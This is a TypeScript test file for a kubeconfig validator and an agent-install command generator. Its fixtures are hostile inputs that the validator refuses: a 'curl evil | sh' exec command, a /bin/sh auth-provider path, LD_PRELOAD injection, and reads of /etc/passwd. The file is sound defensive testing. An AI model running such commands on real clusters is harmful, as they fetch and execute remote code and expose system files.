import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { agentChartPath, installCommands, labelsFromTags } from '../../src/model/cluster-onboarding';
import { kubeconfigCredentials, validateKubeconfig } from '../../src/model/kubeconfig';

/** A well-formed one-cluster kubeconfig with the given user section (JSON, which is YAML too). */
function config(user: Record<string, unknown>, cluster: Record<string, unknown> = {}) {
  return JSON.stringify({
    apiVersion: 'v1',
    kind: 'Config',
    clusters: [
      {
        name: 'prod',
        cluster: {
          server: 'https://ABCDEF.gr7.eu-west-1.eks.amazonaws.com',
          'certificate-authority-data': 'Q0E=',
          ...cluster,
        },
      },
    ],
    contexts: [{ name: 'prod-ctx', context: { cluster: 'prod', user: 'admin' } }],
    users: [{ name: 'admin', user }],
  });
}

const awsExec = (args: string[], extra: Record<string, unknown> = {}) => ({
  exec: { apiVersion: 'client.authentication.k8s.io/v1beta1', command: 'aws', args, ...extra },
});

describe('validateKubeconfig', () => {
  it('accepts a token user and summarizes it without the credential', () => {
    const result = validateKubeconfig(config({ token: 'secret-token-123' }));
    expect(result).toEqual({
      ok: true,
      value: {
        clusterName: 'prod',
        contextName: 'prod-ctx',
        userName: 'admin',
        server: 'https://ABCDEF.gr7.eu-west-1.eks.amazonaws.com',
        auth: 'token',
        eksClusterName: null,
        region: 'eu-west-1',
      },
    });
    expect(JSON.stringify(result)).not.toContain('secret-token-123');
  });

  it('accepts YAML with `aws eks get-token` and reads the cluster name', () => {
    const yaml = [
      'apiVersion: v1',
      'kind: Config',
      'clusters:',
      '- name: prod',
      '  cluster:',
      '    server: https://10.0.0.1:443',
      '    certificate-authority-data: Q0E=',
      'contexts:',
      '- name: prod',
      '  context: {cluster: prod, user: eks}',
      'users:',
      '- name: eks',
      '  user:',
      '    exec:',
      '      apiVersion: client.authentication.k8s.io/v1beta1',
      '      command: aws',
      '      args: [--region, us-west-2, eks, get-token, --cluster-name, payments]',
    ].join('\n');
    const result = validateKubeconfig(yaml);
    expect(result.ok && result.value).toMatchObject({
      auth: 'aws-eks-get-token',
      eksClusterName: 'payments',
      region: 'us-west-2',
    });
  });

  it.each([
    ['not YAML', '{{{', /not valid YAML or JSON/],
    [
      'two clusters',
      config({ token: 't' }).replace(
        '"clusters":[',
        '"clusters":[{"name":"x","cluster":{"server":"https://x"}},',
      ),
      /exactly one entry \(it has 2\)/,
    ],
    ['http server', config({ token: 't' }, { server: 'http://10.0.0.1' }), /must be an https:\/\/ URL/],
    [
      'TLS off',
      config({ token: 't' }, { 'insecure-skip-tls-verify': true }),
      /TLS verification cannot be switched off/,
    ],
    ['a CA file path', config({ token: 't' }, { 'certificate-authority': '/etc/passwd' }), /names a file/],
    ['a token file', config({ tokenFile: '/var/run/secrets/token' }), /tokenFile: names a file/],
    [
      'an auth provider',
      config({ 'auth-provider': { name: 'gcp', config: { 'cmd-path': '/bin/sh' } } }),
      /auth providers run commands/,
    ],
    ['basic auth', config({ username: 'u', password: 'p' }), /basic authentication/],
    ['no credential', config({}), /no credentials/],
    ['another exec', config({ exec: { command: 'gke-gcloud-auth-plugin' } }), /only `aws eks get-token`/],
    [
      'aws but not get-token',
      config(awsExec(['s3', 'cp', 's3://x', '/tmp/x'])),
      /aws eks get-token --cluster-name/,
    ],
    [
      'aws with a file flag',
      config(awsExec(['eks', 'get-token', '--cli-input-json', 'file:///etc/passwd'])),
      /--cli-input-json/,
    ],
    [
      'aws with LD_PRELOAD',
      config(
        awsExec(['eks', 'get-token', '--cluster-name', 'p'], {
          env: [{ name: 'LD_PRELOAD', value: '/tmp/x.so' }],
        }),
      ),
      /LD_PRELOAD/,
    ],
  ])('refuses %s, naming the problem', (_what, text, message) => {
    const result = validateKubeconfig(text);
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.problems.join(' ')).toMatch(message);
  });

  it('property: never accepts an exec plugin whose command is not the AWS CLI', () => {
    const notAws = fc
      .string({ minLength: 0, maxLength: 40 })
      .filter((c) => !/^(?:\/[\w.+-]+)*\/?aws$/.test(c));
    fc.assert(
      fc.property(notAws, fc.array(fc.string({ maxLength: 20 }), { maxLength: 6 }), (command, args) => {
        const result = validateKubeconfig(config({ exec: { command, args: ['eks', 'get-token', ...args] } }));
        expect(result.ok).toBe(false);
      }),
      { numRuns: 300 },
    );
  });

  it('property: with the AWS CLI, only `eks get-token` and its known flags pass', () => {
    const word = fc.oneof(
      fc.constantFrom(
        '--cluster-name',
        '--region',
        '--role-arn',
        '--output',
        '--profile',
        'eks',
        'get-token',
      ),
      fc.string({ maxLength: 12 }),
    );
    fc.assert(
      fc.property(fc.array(word, { maxLength: 8 }), (args) => {
        const result = validateKubeconfig(config(awsExec(args)));
        if (!result.ok) return;
        // Whatever passed is `eks get-token` followed only by allowed flags and their values.
        const eks = args.indexOf('eks');
        expect(args[eks + 1]).toBe('get-token');
        const rest = [...args.slice(0, eks), ...args.slice(eks + 2)];
        for (let i = 0; i < rest.length; i += 2) {
          expect([
            '--cluster-name',
            '--cluster-id',
            '--region',
            '--role-arn',
            '--output',
            '--profile',
          ]).toContain((rest[i] as string).split('=')[0]);
          if ((rest[i] as string).includes('=')) i--;
        }
      }),
      { numRuns: 500 },
    );
  });
});

describe('kubeconfigCredentials', () => {
  const server = 'https://ABCDEF.gr7.eu-west-1.eks.amazonaws.com';

  it('reads the server, the CA and the one credential of each kind', () => {
    expect(kubeconfigCredentials(config({ token: 'secret-token-123' }))).toEqual({
      server,
      certificateAuthorityData: 'Q0E=',
      user: { kind: 'token', token: 'secret-token-123' },
    });
    expect(
      kubeconfigCredentials(config({ 'client-certificate-data': 'Q0VSVA==', 'client-key-data': 'S0VZ' }))
        .user,
    ).toEqual({ kind: 'client-certificate', certificateData: 'Q0VSVA==', keyData: 'S0VZ' });
    expect(
      kubeconfigCredentials(config(awsExec(['eks', 'get-token', '--cluster-name=prod-eks', '--region', 'x'])))
        .user,
    ).toEqual({ kind: 'aws-eks-get-token', eksClusterName: 'prod-eks' });
    expect(kubeconfigCredentials(config({ token: 't' }, { 'certificate-authority-data': '' }))).toMatchObject(
      {
        certificateAuthorityData: null,
      },
    );
  });

  it('never takes the command of an exec entry: whatever it is, the collector signs its own EKS token', () => {
    const parts = kubeconfigCredentials(config({ exec: { command: 'sh', args: ['-c', 'curl evil | sh'] } }));
    expect(parts.user).toEqual({ kind: 'aws-eks-get-token', eksClusterName: null });
    expect(JSON.stringify(parts)).not.toContain('curl');
  });

  it('names the missing part without echoing a value', () => {
    expect(() => kubeconfigCredentials(config({}))).toThrow(/users\[0\]\.user holds no token/);
    expect(() => kubeconfigCredentials(JSON.stringify({ users: [] }))).toThrow(
      /clusters\[0\]\.cluster is missing/,
    );
    expect(() => kubeconfigCredentials(config({ token: 'x' }, { server: '' }))).toThrow(/server is missing/);
  });
});

describe('labelsFromTags', () => {
  it('reads env and team whatever the case of the key, owner standing in for team', () => {
    expect(labelsFromTags({ Environment: 'prod', Owner: 'payments' })).toEqual({
      env: 'prod',
      team: 'payments',
    });
    expect(labelsFromTags({ env: 'dev', team: 'data', owner: 'x' })).toEqual({ env: 'dev', team: 'data' });
    expect(labelsFromTags({})).toEqual({ env: null, team: null });
  });
});

describe('installCommands', () => {
  it('puts the token in the Helm and kubectl forms and only a sensitive variable in Terraform', () => {
    const out = installCommands('https://app.example.com', 'payments', 'spot_ins_abc');
    expect(out.helm).toContain(
      '--set apiUrl=https://app.example.com --set clusterName=payments --set token=spot_ins_abc',
    );
    expect(out.kubectl).toContain("-e 's|CHANGE ME: the cluster.s agent token|spot_ins_abc|'");
    expect(out.manifestUrl).toBe('https://app.example.com/api/agent/manifest.yaml');
    expect(out.kubectl).toContain(`curl -fsSL ${out.manifestUrl}`);
    // The token is in sed's arguments, never in the URL (access logs keep URLs).
    expect(out.kubectl.split('\n')[0]).not.toContain('spot_ins_abc');
    expect(out.kubectl).toMatch(/kubectl apply -f -$/);
    expect(out.terraform).toContain('var.spot_optimizer_install_token');
    expect(out.terraform).not.toContain('spot_ins_abc');
  });

  it('installs the chart this deployment serves, by its URL, in the Helm and Terraform forms (ADR 0075)', () => {
    const out = installCommands('https://app.example.com', 'payments', 'spot_ins_abc');
    expect(out.chartUrl).toBe('https://app.example.com/api/agent/spot-optimizer-agent-0.1.0.tgz');
    expect(out.chartUrl).toBe(`https://app.example.com${agentChartPath}`);
    expect(out.helm.split(' \\\n')[0]).toBe(`helm upgrade --install spot-optimizer-agent ${out.chartUrl}`);
    expect(out.terraform).toContain(`  chart            = "${out.chartUrl}"`);
    // No chart repository: the URL is the chart itself.
    expect(out.helm).not.toContain('--repo');
    expect(out.terraform).not.toMatch(/repository\s*=/);
    expect(`${out.helm}\n${out.terraform}`).not.toContain('charts.spot-optimizer.io');
  });
});
